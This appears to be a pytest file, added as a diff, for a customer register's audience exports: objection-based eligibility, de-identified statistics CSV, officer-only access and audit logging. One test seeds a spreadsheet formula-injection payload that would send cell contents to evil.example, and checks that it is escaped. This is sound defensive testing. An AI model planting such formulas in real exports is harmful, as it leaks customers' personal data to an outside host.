@@ -1,0 +1,107 @@
+import csv
+import datetime as dt
+import io
+
+import pytest
+
+from finconsole.core.kernel.errors import PermissionDenied, ValidationError
+from finconsole.core.orders import orders
+from finconsole.core.register import audience, customers
+from finconsole.core.store.models import AuditEvent, Customer
+
+
+@pytest.fixture
+def people(db, officer, clock):
+    def make(first, email, **kw):
+        c = customers.create(
+            officer,
+            {"first_name": first, "last_name": "Test", "email": email, "phone": "040 123 4567"},
+            {"street": "Katu 1", "postcode": "00730", "city": "Helsinki"},
+        )
+        return c["id"]
+
+    ids = {
+        "plain": make("Plain", "plain@example.fi"),
+        "no_marketing": make("Nomark", "nomark@example.fi"),
+        "no_stats": make("Nostat", "nostat@example.fi"),
+        "restricted": make("Restr", "restr@example.fi"),
+        "withdrawn": make("Withdrawn", "withdrawn@example.fi"),
+    }
+    customers.set_objection(officer, ids["no_marketing"], "marketing", True)
+    customers.set_objection(officer, ids["no_stats"], "statistics", True)
+    customers.set_objection(officer, ids["withdrawn"], "marketing", True)
+    customers.set_objection(officer, ids["withdrawn"], "marketing", False)
+    Customer.update(restricted=True).where(Customer.id == ids["restricted"]).execute()
+    orders.create(
+        officer,
+        ids["plain"],
+        {"order_number": "A1", "total_cents": 1000, "ordered_at": dt.datetime(2024, 5, 1)},
+    )
+    orders.create(
+        officer,
+        ids["plain"],
+        {"order_number": "A2", "total_cents": 500, "ordered_at": dt.datetime(2025, 5, 1)},
+    )
+    return ids
+
+
+def test_eligible_is_the_one_rule(people):
+    marketing = {c.id for c in audience.eligible("marketing")}
+    assert marketing == {people["plain"], people["no_stats"], people["withdrawn"]}
+    stats = {c.id for c in audience.eligible("statistics")}
+    assert stats == {people["plain"], people["no_marketing"], people["withdrawn"]}
+    assert people["restricted"] not in {c.id for c in audience.eligible("profiling")}
+    with pytest.raises(ValidationError):
+        audience.eligible("gossip")
+
+
+def test_marketing_csv(people, officer):
+    out = io.StringIO()
+    assert audience.write_csv(officer, "marketing", out) == 3
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert set(rows[0]) == {"email", "first_name", "language"}
+    assert {r["email"] for r in rows} == {
+        "plain@example.fi",
+        "nostat@example.fi",
+        "withdrawn@example.fi",
+    }
+
+
+def test_statistics_csv_has_no_direct_identifiers(people, officer):
+    out = io.StringIO()
+    assert audience.write_csv(officer, "statistics", out) == 3
+    text = out.getvalue()
+    for identifier in ("@", "Plain", "Test", "Katu", "358", "00730"):
+        assert identifier not in text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["row"] for r in rows] == ["1", "2", "3"]
+    plain = rows[0]
+    assert plain["first_order_year"] == "2024" and plain["orders"] == "2"
+    assert plain["total_cents"] == "1500" and plain["postcode_area"] == "007"
+    assert rows[1]["orders"] == "0" and rows[1]["first_order_year"] == ""
+
+
+def test_audience_officer_only_and_audited(people, officer, support):
+    with pytest.raises(PermissionDenied):
+        audience.write_csv(support, "marketing", io.StringIO())
+    with pytest.raises(ValidationError):
+        audience.write_csv(officer, "profiling", io.StringIO())
+    audience.write_csv(officer, "statistics", io.StringIO())
+    event = AuditEvent.select().order_by(AuditEvent.id.desc()).get()
+    assert event.action == "export_audience" and event.target_type == "statistics_audience"
+
+
+def test_batches_cover_everyone(people, officer, monkeypatch):
+    monkeypatch.setattr(audience, "BATCH", 2)
+    out = io.StringIO()
+    assert audience.write_csv(officer, "marketing", out) == 3
+
+
+def test_marketing_csv_cells_never_run_as_formulas(people, officer):
+    Customer.update(first_name='=HYPERLINK("http://evil.example/?"&A2)').where(
+        Customer.id == people["plain"]
+    ).execute()
+    out = io.StringIO()
+    audience.write_csv(officer, "marketing", out)
+    names = {r["first_name"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert '\'=HYPERLINK("http://evil.example/?"&A2)' in names
